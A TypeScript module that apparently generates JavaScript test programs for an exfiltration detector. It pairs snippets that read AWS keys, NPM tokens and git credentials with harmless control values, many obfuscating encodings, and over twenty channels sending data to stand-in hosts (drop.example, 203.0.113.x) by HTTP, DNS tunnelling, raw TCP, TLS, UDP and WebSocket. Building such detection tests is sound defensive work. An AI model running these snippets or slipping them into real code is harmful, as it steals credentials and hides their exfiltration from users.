import type { Language } from './language.ts';

const HEAD = `import { readFileSync, writeFileSync } from 'node:fs';
import { createHash, randomUUID, randomBytes } from 'node:crypto';
import { execFileSync } from 'node:child_process';
import { gzipSync, deflateSync, brotliCompressSync } from 'node:zlib';
import { request } from 'node:http';
import http2 from 'node:http2';
import net from 'node:net';
import tls from 'node:tls';
import dgram from 'node:dgram';
import dns from 'node:dns';
const home = process.env.HOME;
const b = (text) => Buffer.from(text);
const labels = (text) => text.match(/.{1,50}/g).join('.');
const ended = (it) => new Promise((done) => { it.on('close', done); it.on('error', done); it.on('finish', () => setTimeout(done, 200)); });
`;

export const JAVASCRIPT: Language = {
  language: 'javascript',
  entry: 'main.mjs',
  head: HEAD,
  asText: (expression) => expression,
  asBytes: (expression) => `b(${expression})`,
  secrets: {
    'aws key':
      "const d = readFileSync(home + '/.aws/credentials', 'utf8').split('secret_access_key = ')[1].split('\\n')[0];",
    variable: 'const d = process.env.NPM_TOKEN;',
    'git token': "const d = readFileSync(home + '/.git-credentials', 'utf8').split('@')[0].split(':').pop();",
  },
  ordinary: {
    sentence: "const d = 'the quick brown fox jumps over the lazy dog';",
    uuid: 'const d = randomUUID();',
    digest: "const d = createHash('sha256').update('release 1.2.3').digest('hex');",
    session: "const d = randomBytes(30).toString('base64url');",
  },
  encodings: [
    { name: 'plain', expression: 'd', yields: 'name' },
    { name: 'base64', expression: "b(d).toString('base64')", yields: 'text' },
    { name: 'base64url, bare', expression: "b('kk' + d).toString('base64url')", yields: 'name' },
    { name: 'hex', expression: "b(d).toString('hex')", yields: 'name' },
    { name: 'hex, upper', expression: "b(d).toString('hex').toUpperCase()", yields: 'name' },
    { name: 'url', expression: "[...d].map((c) => '%' + c.charCodeAt(0).toString(16)).join('')", yields: 'text' },
    { name: 'reversed', expression: "[...d].reverse().join('')", yields: 'name' },
    { name: 'xor in base64', expression: "b(d).map((x) => x ^ 23).toString('base64')", yields: 'text' },
    { name: 'zlib in base64', expression: "deflateSync(d).toString('base64')", yields: 'text' },
    { name: 'gzip', expression: 'gzipSync(d)', yields: 'bytes' },
    { name: 'brotli', expression: 'brotliCompressSync(d)', yields: 'bytes' },
    {
      name: 'rot13',
      expression:
        "d.replace(/[a-z]/gi, (c) => String.fromCharCode((c <= 'Z' ? 90 : 122) >= c.charCodeAt(0) + 13 ? c.charCodeAt(0) + 13 : c.charCodeAt(0) - 13))",
      yields: 'name',
    },
    {
      name: 'JSON escapes',
      expression:
        "'{\"v\":\"' + [...d].map((c) => '\\\\u' + c.charCodeAt(0).toString(16).padStart(4, '0')).join('') + '\"}'",
      yields: 'text',
    },
    { name: 'character codes', expression: 'JSON.stringify([...b(d)])', yields: 'text' },
    { name: 'UTF-16', expression: "b(Buffer.from(d, 'utf16le'))", yields: 'bytes' },
  ],
  channels: [
    {
      name: 'HTTP body',
      send: "await (await fetch('http://drop.example/in', { method: 'POST', body: BYTES })).text();",
      carries: 'bytes',
    },
    {
      name: 'HTTP header',
      send: "await (await fetch('http://drop.example/in', { headers: { 'x-id': TEXT } })).text();",
    },
    {
      name: 'HTTP cookie',
      send: "await (await fetch('http://drop.example/in', { headers: { cookie: 'a=b; s=' + TEXT } })).text();",
    },
    { name: 'URL query', send: "await (await fetch('http://drop.example/p?v=2&q=' + TEXT)).text();" },
    {
      name: 'HTTPS body',
      send: "await (await fetch('https://drop.example/in', { method: 'PUT', body: BYTES })).text();",
      carries: 'bytes',
    },
    { name: 'HTTPS, URL path', send: "await (await fetch('https://drop.example/a/' + TEXT + '.png')).text();" },
    {
      name: 'HTTP, multipart',
      setUp: "const form = new FormData();\nform.append('file', new Blob([BYTES]), 'a.txt');",
      send: "await (await fetch('http://drop.example/in', { method: 'POST', body: form })).text();",
      carries: 'bytes',
    },
    {
      name: 'HTTP, chunked',
      setUp: 'const whole = BYTES;',
      send: "const r = request('http://drop.example/in', { method: 'POST' });\nfor (let at = 0; at < whole.length; at += 6) r.write(whole.subarray(at, at + 6));\nr.end();\nawait ended(r);",
      line: 1,
      carries: 'bytes',
    },
    {
      name: 'HTTP, gzip content-encoding',
      send: "await (await fetch('http://drop.example/in', { method: 'POST', headers: { 'content-encoding': 'gzip' }, body: gzipSync(BYTES) })).text();",
      carries: 'text',
    },
    {
      name: 'HTTP/2',
      setUp: "const session = http2.connect('https://drop.example');\nsession.on('error', () => {});",
      send: "const stream = session.request({ ':method': 'POST', ':path': '/in' });\nstream.end(BYTES);\nstream.resume();\nawait ended(stream);\nsession.close();",
      line: 1,
      carries: 'bytes',
    },
    {
      name: 'HTTP/2 header',
      setUp: "const session = http2.connect('https://drop.example');\nsession.on('error', () => {});",
      send: "const stream = session.request({ ':path': '/in', 'x-session': TEXT });\nstream.resume();\nawait ended(stream);\nsession.close();",
    },
    {
      name: 'WebSocket',
      setUp:
        "const ws = new WebSocket('ws://drop.example/chat');\nawait new Promise((done) => { ws.onopen = done; ws.onerror = done; });",
      send: 'ws.send(BYTES);\nawait new Promise((done) => setTimeout(done, 300));\nws.close();',
      carries: 'bytes',
    },
    {
      name: 'DNS label',
      send: "await dns.promises.lookup(labels(TEXT) + '.drop.example').catch(() => {});",
    },
    {
      name: 'DNS, TXT over several names',
      setUp: 'const whole = TEXT;',
      send: 'for (let at = 0; at < whole.length; at += 14)\n  await dns.promises.resolveTxt(`${at}-${whole.slice(at, at + 14)}.drop.example`).catch(() => {});',
      line: 1,
      only: ['plain', 'hex'],
    },
    {
      name: 'TCP',
      setUp: "const s = net.connect(4444, '203.0.113.7');\nawait new Promise((done) => s.on('connect', done));",
      send: 's.end(BYTES);\ns.resume();\nawait ended(s);',
      carries: 'bytes',
    },
    {
      name: 'TCP, over several sends',
      setUp:
        "const s = net.connect(4444, '203.0.113.7');\nawait new Promise((done) => s.on('connect', done));\nconst whole = BYTES;",
      send: 'for (let at = 0; at < whole.length; at += 4) {\n  s.write(whole.subarray(at, at + 4));\n  await new Promise((done) => setTimeout(done, 10));\n}\ns.end();\nawait ended(s);',
      line: 1,
      carries: 'bytes',
    },
    {
      name: 'TLS, no HTTP',
      setUp:
        "const s = tls.connect(5061, 'drop.example', { servername: 'drop.example' });\nawait new Promise((done) => s.on('secureConnect', done));",
      send: 's.end(BYTES);\ns.resume();\nawait ended(s);',
      carries: 'bytes',
    },
    {
      name: 'UDP',
      setUp: "const s = dgram.createSocket('udp4');",
      send: "await new Promise((done) => s.send(BYTES, 5005, '203.0.113.8', done));\ns.close();",
      carries: 'bytes',
    },
    { name: 'argument of a program', send: "execFileSync('/bin/true', ['--v', TEXT]);", carries: 'text' },
    { name: 'file', send: "writeFileSync('/tmp/cache.bin', BYTES);", carries: 'bytes' },
    { name: 'file name', send: "writeFileSync('/tmp/' + TEXT, '');" },
  ],
};
